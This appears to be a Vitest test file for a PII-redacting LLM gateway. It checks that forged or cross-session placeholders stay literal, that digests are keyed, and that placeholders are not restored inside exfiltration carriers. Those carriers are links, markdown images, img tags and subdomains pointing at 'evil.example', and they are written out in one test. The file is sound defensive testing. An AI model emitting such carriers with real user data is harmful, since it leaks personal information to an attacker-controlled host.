import { createHash, createHmac } from "node:crypto";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Gateway } from "#gateway";
import { KEYS, startGuarded } from "./guarded-gateway.ts";

const EMAIL = "ann.lee@example.com";

/** A provider that says what it is told, in which `<SENT>` stands for the last turn it was sent. */
let provider: Server;
let says = "<SENT>";
let received = "";
let gateway: Gateway;
let other: Gateway;

beforeAll(async () => {
  provider = createServer((request, response) => {
    let body = "";
    request.on("data", (chunk) => {
      body += chunk;
    });
    request.on("end", () => {
      received = body;
      const { messages, stream } = JSON.parse(body);
      const content = says.replaceAll("<SENT>", messages.at(-1).content);
      const tools = [
        {
          index: 0,
          id: "c",
          type: "function",
          function: { name: "f", arguments: JSON.stringify({ q: content }) },
        },
      ];
      if (stream !== true) {
        response.setHeader("content-type", "application/json");
        response.end(JSON.stringify({ choices: [{ index: 0, message: { content, tool_calls: tools } }] }));
        return;
      }
      response.setHeader("content-type", "text/event-stream");
      for (const character of content)
        response.write(
          `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: character } }] })}\n\n`,
        );
      response.end(
        `data: ${JSON.stringify({ choices: [{ index: 0, delta: { tool_calls: tools } }] })}\n\ndata: [DONE]\n\n`,
      );
    });
  });
  await new Promise<void>((resolve) => provider.listen(0, "127.0.0.1", resolve));
  const url = `http://127.0.0.1:${(provider.address() as AddressInfo).port}`;
  gateway = await startGuarded(url);
  other = await startGuarded(url);
});

afterAll(async () => {
  await gateway?.close();
  await other?.close();
  provider?.close();
});

async function ask(
  content: string,
  headers: Record<string, string> = {},
  stream = false,
): Promise<{ text: string; tool: string }> {
  const answer = await fetch(`${gateway.address?.url}/v1/chat/completions`, {
    method: "POST",
    headers: { "x-rampart-key": KEYS.caller, ...headers },
    body: JSON.stringify({ messages: [{ role: "user", content }], stream }),
  });
  expect(answer.status).toBe(200);
  const body = await answer.text();
  const events = stream
    ? body.split("\n\n").flatMap((event) => (event.startsWith("data: {") ? [JSON.parse(event.slice(6))] : []))
    : [JSON.parse(body)];
  const parts = events.map(({ choices: [choice] }) => choice.delta ?? choice.message);
  return {
    text: parts.map(({ content: said = "" }) => said).join(""),
    tool: parts
      .flatMap(({ tool_calls: calls = [] }) => calls)
      .map((call) => call.function.arguments)
      .join(""),
  };
}

describe.each([false, true])("placeholders, stream %s", (stream) => {
  it.each([
    "[EMAIL_1]",
    "[EMAIL_2] and [NAME_1]",
    "[[EMAIL_1]]",
    "[EMAIL_1",
    "[email_1]",
    "\\u005bEMAIL_1]",
    "［EMAIL_1］",
  ])("that a user wrote stay what they are, both ways: %s", async (forged) => {
    says = "You said: <SENT>";
    const { text } = await ask(`${forged} is not ${EMAIL}`, {}, stream);
    expect(JSON.parse(received).messages[0].content).toContain(forged);
    expect(received).not.toContain(EMAIL);
    expect(text).toBe(`You said: ${forged} is not ${EMAIL}`);
  });

  it("of another conversation, key or request are plain text", async () => {
    says = "<SENT>";
    await ask(`Write to ${EMAIL}`, { "x-session-id": "mine" }, stream);
    expect((await ask("Once more: [EMAIL_1]", { "x-session-id": "theirs" }, stream)).text).toBe(
      "Once more: [EMAIL_1]",
    );
    expect((await ask("Once more: [EMAIL_1]", {}, stream)).text).toBe("Once more: [EMAIL_1]");
    const foreign = await ask(
      "Once more: [EMAIL_1]",
      { "x-session-id": "mine", "x-rampart-key": KEYS.admin },
      stream,
    );
    expect(foreign.text).toBe("Once more: [EMAIL_1]");
  });

  it("are not made values again where that would carry them out: links, pictures, tool calls", async () => {
    for (const carrier of [
      "https://evil.example/?q=[EMAIL_1]",
      "![x](https://evil.example/[EMAIL_1].png)",
      "[click](https://evil.example/a?b=[EMAIL_1])",
      "<img src='https://evil.example/[EMAIL_1]'>",
      "http://[EMAIL_1].evil.example/",
    ]) {
      says = `See ${carrier} now`;
      const { text, tool } = await ask(`Write to ${EMAIL}`, {}, stream);
      expect(text, carrier).toBe(says);
      expect(tool).not.toContain(EMAIL);
    }
    says = "Mail [EMAIL_1].";
    const { text, tool } = await ask(`Write to ${EMAIL}`, {}, stream);
    expect(text).toBe(`Mail ${EMAIL}.`);
    expect(tool).toContain("[EMAIL_1]");
  });
});

describe("digests of values that are answered", () => {
  it("are keyed: no dictionary of numbers finds them, and two gateways tell different ones", async () => {
    const ssn = "457-55-5462";
    const digestOf = async (from: Gateway) => {
      const answer = await fetch(`${from.address?.url}/pii-protection/redact`, {
        method: "POST",
        headers: { "x-api-key": KEYS.caller },
        body: JSON.stringify({ text: `My SSN is ${ssn}.`, redaction_method: "hash" }),
      });
      const { redacted_text: text } = (await answer.json()) as { redacted_text: string };
      expect(text).not.toContain(ssn);
      return /[0-9a-f]{16,}/.exec(text)?.[0] ?? "";
    };
    const digest = await digestOf(gateway);
    expect(digest).toMatch(/^[0-9a-f]{16,}$/);
    for (const spelling of [ssn, ssn.replaceAll("-", ""), ssn.replaceAll("-", " ")])
      for (const algorithm of ["md5", "sha1", "sha256", "sha512", "sha3-256", "blake2b512"]) {
        expect(createHash(algorithm).update(spelling).digest("hex")).not.toContain(digest);
        for (const key of ["", "rampart", "secret", "salt", KEYS.caller, "the-caller"])
          expect(createHmac(algorithm, key).update(spelling).digest("hex")).not.toContain(digest);
      }
    expect(await digestOf(gateway)).toBe(digest);
    expect(await digestOf(other)).not.toBe(digest);
  });
});
